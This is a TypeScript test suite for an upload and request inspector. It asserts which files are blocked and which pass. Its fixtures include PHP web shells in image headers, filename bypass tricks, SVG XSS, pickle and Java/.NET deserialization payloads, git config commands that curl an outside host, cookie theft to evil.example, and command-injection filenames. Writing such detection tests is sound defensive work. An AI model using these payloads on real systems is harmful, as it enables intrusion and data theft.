import assert from 'node:assert/strict'
import { describe, test } from 'node:test'
import { brotliCompressSync, gzipSync } from 'node:zlib'
import { inspect } from '../src/inspect.ts'
import type { InspectedRequest } from '../src/request/inspected-request.ts'

/** Ways to write the name of a file that some program reads as one that a server runs. */
const NAMES: Readonly<Record<string, (extension: string) => string>> = {
  'as it is': extension => `filename="a.${extension}"`,
  'with capitals': extension => `filename="a.${extension.toUpperCase()}"`,
  'with a slash behind it': extension => `filename="a.${extension}/"`,
  'with a stream': extension => `filename="a.${extension}:.jpg"`,
  'with a query': extension => `filename="a.${extension}?.jpg"`,
  'with a mark': extension => `filename="a.${extension}#.jpg"`,
  'with a NUL': extension => `filename="a.${extension}\u0000.jpg"`,
  'with a semicolon': extension => `filename="a.${extension};.jpg"`,
  'with an escaped letter': extension => `filename="a.\\${extension}"`,
  'with a second sign': extension => `filename=="a.${extension}"`,
  'with a wide dot': extension => `filename="a\uff0e${extension}"`,
  'in two parameters': extension => `filename*0="a."; filename*1="${extension}"`,
  'in two encoded parameters': extension => `filename*0*=UTF-8''a%2e; filename*1*=${extension}`,
  'in two parameters, the second one first': extension => `filename*1="${extension}"; filename*0="a."`,
  encoded: extension => `filename*=UTF-8''a%2e${extension}`,
  'as a word of a mail': extension => `filename="=?utf-8?B?${btoa(`a.${extension}`)}?="`,
}

const PICTURES: Readonly<Record<string, string>> = {
  GIF: 'GIF89a',
  PNG: '\u0089PNG\r\n\u001a\n\u0000\u0000\u0000\rIHDR',
  JPEG: '\u00ff\u00d8\u00ff\u00e1\u0000\u0010Exif\u0000\u0000',
}

describe('a file that a server would run is refused by its name', () => {
  for (const [how, write] of Object.entries(NAMES))
    test(how, () => {
      for (const extension of ['php', 'phtml', 'phar', 'jsp', 'aspx'])
        assert.equal(verdict(write(extension), 'hello'), 'block', write(extension))
    })
})

describe('a picture that is a program is refused', () => {
  for (const [format, start] of Object.entries(PICTURES))
    test(format, () => {
      for (const program of [
        '<?php system("id");?>',
        '<?=`$_GET[0]`?>',
        '<? system("id");?>',
        '<? eval($_POST[0]);',
        '<? $_GET[0]($_GET[1]);?>',
        '<script language="php">system("id");</script>',
      ])
        assert.equal(verdict('filename="a.jpg"', start + program), 'block', program)
    })
})

test('a picture that is a program far behind its start is refused', () => {
  const far = '\u0000'.repeat(20_000)
  for (const start of Object.values(PICTURES)) {
    assert.equal(verdict('filename="a.jpg"', `${start}${far}<?php system("id");?>`), 'block')
    assert.equal(verdict('filename="a.jpg"', `${start}${far}<?phpa and other bytes`), 'pass')
  }
})

test('a drawing that attacks who looks at it is refused; one that moves passes', () => {
  const drawing = (content: string): string => `<svg xmlns="http://www.w3.org/2000/svg">${content}</svg>`
  const wide = (text: string): string => Buffer.from(`\ufeff${text}`, 'utf16le').toString('latin1')
  for (const content of [
    '<a><animate attributeName="href" values="javascript:alert(1)"/></a>',
    '<set attributeName="onmouseover" to="alert(1)"/>',
    '<script>var x=new XMLHttpRequest();x.open("GET","/admin")</script>',
    '<script>\nlet a = 1\nfetch("/admin").then(send)</script>',
  ]) {
    assert.equal(verdict('filename="a.svg"', drawing(content)), 'block', content)
    assert.equal(verdict('filename="a.svg"', wide(drawing(content))), 'block', `wide: ${content}`)
  }
  for (const content of [
    '<script>function zoom(e) { document.getElementById("a").setAttribute("x", 1) }</script>',
    '<set attributeName="fill" to="red"/><animate attributeName="x" values="0;5" from="0" to="5"/>',
  ])
    assert.equal(verdict('filename="a.svg"', drawing(content)), 'pass', content)
})

test('objects that run something when they are read are refused, whatever holds them', () => {
  const object = '\u00ac\u00ed\u0000\u0005sr\u0000\u0011java.util.HashMap'
  assert.equal(verdict('filename="a.bin"', object), 'block')
  const model = (pickle: string): string =>
    `PK\u0003\u0004${'\0'.repeat(22)}\u000e\0\0\0model/data.pkl${pickle}`
  assert.equal(
    verdict('filename="a.pt"', model('\u0080\u0002cposix\nsystem\nq\0X\u0002\0\0\0idq\u0001\u0085R.')),
    'block',
  )
  assert.equal(
    verdict('filename="a.pt"', model('\u0080\u0002ccollections\nOrderedDict\nq\0)Rq\u0001.')),
    'pass',
  )
  const asBody = (pickle: string, type: string): string => {
    const body = Buffer.from(pickle, 'latin1')
    return inspect({ method: 'POST', target: '/predict', headers: ['content-type', type], body }).verdict
  }
  const running = '\u0080\u0003cposix\nsystem\nX\u0002\0\0\0id\u0085R.'
  for (const type of ['application/octet-stream', 'application/vnd.bentoml+pickle']) {
    assert.equal(asBody(running, type), 'block')
    assert.equal(asBody('\u0080\u0003ccollections\nOrderedDict\nq\0)Rq\u0001.', type), 'pass')
  }
})

test('a script of a program that converts pictures is refused as a file', () => {
  const script =
    '<image><read filename="caption:&lt;?php 1;?&gt;"/><write filename="info:/srv/a.php"/></image>'
  assert.equal(verdict('filename="a.msl"', `<?xml version="1.0"?>${script}`), 'block')
})

test('settings of git that run a program are refused in a file', () => {
  const settings = (line: string): string => `[core]\n\tbare = false\n\t${line}\n[remote "origin"]\n`
  for (const line of [
    'sshCommand = curl http://198.51.100.7 -I',
    'fsmonitor = "touch /tmp/x"',
    'gitProxy=/tmp/x',
  ])
    assert.equal(verdict('filename="config"', settings(line)), 'block', line)
  for (const line of ['fsmonitor = true', 'editor = vim', 'ignorecase = true'])
    assert.equal(verdict('filename="config"', settings(line)), 'pass', line)
})

describe('other files pass', () => {
  for (const [disposition, content] of [
    ['filename="a.jpg"', `${PICTURES['JPEG']}<? and other bytes`],
    ['filename="report v1.2.pdf"', '%PDF-1.4'],
    ['filename="What? A note.txt"', 'hello'],
    ['filename="index.php.md"', 'about index.php'],
    ['filename="a b.c.d.png"', '\u0089PNG'],
    ['filename="php notes.txt"', 'hello'],
  ] as const)
    test(disposition, () => assert.equal(verdict(disposition, content), 'pass'))
})

function verdict(disposition: string, content: string): string {
  const head = `--x\r\nContent-Disposition: form-data; name="file"; ${disposition}\r\nContent-Type: image/jpeg\r\n\r\n`
  const body = Buffer.concat([
    Buffer.from(head),
    Buffer.from(content, 'latin1'),
    Buffer.from('\r\n--x--\r\n'),
  ])
  const headers = ['content-type', 'multipart/form-data; boundary=x']
  return inspect({ method: 'POST', target: '/upload', headers, body }).verdict
}

describe('a document that starts a program when it is read is refused', () => {
  for (const [kind, name, document] of [
    ['beans', 'a.xml', '<beans><bean class="java.lang.ProcessBuilder" init-method="start"/></beans>'],
    ['an object of Java', 'a.dat', '<java class="java.beans.XMLDecoder"><void method="start"/></java>'],
    [
      'settings of a log',
      'a.xml',
      '<configuration><insertFromJNDI env-entry-name="ldap://a/x"/></configuration>',
    ],
    ['a service of Axis', 'a.wsdd', '<deployment><service name="x" provider="java:RPC"/></deployment>'],
    ['a process', 'a.bpmn', '<definitions><script>"id".execute()</script></definitions>'],
    [
      'a process with a class',
      'a.bpmn',
      '<definitions><x:script>java.lang.Runtime.getRuntime().exec("id")</x:script></definitions>',
    ],
  ] as const)
    test(kind, () => assert.equal(verdict(`filename="${name}"`, document), 'block'))

  test('documents of the same kind that start none pass', () => {
    for (const document of [
      '<beans><bean id="a" class="com.example.Shop"/></beans>',
      '<definitions><script>execution.setVariable("a", 1)</script></definitions>',
      '<book><programlisting>Runtime.getRuntime().exec("ls")</programlisting></book>',
    ])
      assert.equal(verdict('filename="a.xml"', document), 'pass', document)
    assert.equal(verdict('filename="a.txt"', '<bean class="java.lang.ProcessBuilder"/>'), 'pass')
  })
})

describe('an object that runs something when it is read is refused', () => {
  const NET = Buffer.from('0001000000ffffffff01000000000000000c02000000', 'hex').toString('latin1')
  for (const [kind, object] of [
    [
      '.NET',
      `${NET}Microsoft.PowerShell.Editor\u0005\u0001Microsoft.VisualStudio.Text.Formatting.TextFormattingRunProperties`,
    ],
    ['Ruby', '\u0004\bo:\u0015Gem::Requirement\u0006:\u0012@requirements'],
  ] as const)
    test(kind, () => {
      assert.equal(verdict('filename="a.bin"', object), 'block')
      const body = Buffer.from(object, 'latin1')
      assert.equal(inspect({ method: 'POST', target: '/x', headers: OCTETS, body }).verdict, 'block')
    })

  test('Java, behind the head of a message', () => {
    const object = Buffer.from('000001cdaced00057372000a', 'hex')
    assert.equal(inspect({ method: 'POST', target: '/x', headers: OCTETS, body: object }).verdict, 'block')
    const chance = Buffer.from('000001cdaced000500', 'hex')
    assert.equal(inspect({ method: 'POST', target: '/x', headers: OCTETS, body: chance }).verdict, 'pass')
  })

  test('the state that a game keeps passes', () => {
    assert.equal(verdict('filename="a.save"', `${NET}Assembly-CSharp\u0005\u0001PlayerState`), 'pass')
  })
})

test('a page that sends cookies away is refused; one that reads them passes', () => {
  for (const script of [
    'fetch("//evil.example/?" + document.cookie)',
    'new Image().src = "//evil.example/" + escape(document.cookie)',
    'location.href = "//evil.example/" + document.cookie',
  ])
    assert.equal(verdict('filename="a.html"', `<script>${script}</script>`), 'block', script)
  for (const script of ['var theme = document.cookie', 'fetch("/api"); read(document.cookie)'])
    assert.equal(verdict('filename="a.html"', `<script>${script}</script>`), 'pass', script)
})

test('the script of a packed drawing is refused', () => {
  const drawing = (text: string): string => gzipSync(text).toString('latin1')
  assert.equal(verdict('filename="a.svgz"', drawing('<svg onload="alert(1)"/>')), 'block')
  assert.equal(verdict('filename="a.svgz"', drawing('<svg><path d="M0 0"/></svg>')), 'pass')
})

test('a packed archive of PHP is refused, whatever it is called', () => {
  const archive = gzipSync('anything<?php __HALT_COMPILER(); ?>').toString('latin1')
  for (const name of ['a.jpg', 'a.gif', 'a'])
    assert.equal(verdict(`filename="${name}"`, archive), 'block', name)
  assert.equal(verdict('filename="a.jpg"', gzipSync('anything').toString('latin1')), 'pass')
  assert.equal(verdict('filename="a.tar.gz"', archive), 'pass')
})

test('an archive with a command for the name of its first file is refused', () => {
  const archive = (name: string): string => name.padEnd(257, '\u0000') + 'ustar\u000000'.padEnd(255, '\u0000')
  for (const name of ['`id`', 'a$(id).txt', "'`sh -c $x`'"]) {
    assert.equal(verdict('filename="a.tar"', archive(name)), 'block', name)
    assert.equal(verdict('filename="a"', archive(name)), 'block', name)
  }
  for (const name of ['a.txt', 'cost $5.txt', 'a`b.txt', '$(1).txt'])
    assert.equal(verdict('filename="a.tar"', archive(name)), 'pass', name)
})

test('a field in Brotli is read', () => {
  const field = (text: string): InspectedRequest => ({
    method: 'POST',
    target: '/x',
    headers: ['content-type', 'multipart/form-data; boundary=b'],
    body: Buffer.concat([
      Buffer.from('--b\r\nContent-Disposition: form-data; name="q"\r\nContent-Encoding: br\r\n\r\n'),
      brotliCompressSync(text),
      Buffer.from('\r\n--b--\r\n'),
    ]),
  })
  assert.equal(inspect(field("1' or '1'='1")).verdict, 'block')
  assert.equal(inspect(field('hello')).verdict, 'pass')
  assert.equal(inspect(field('a '.repeat(100_000))).verdict, 'too-big')
})

const OCTETS = ['content-type', 'application/octet-stream']
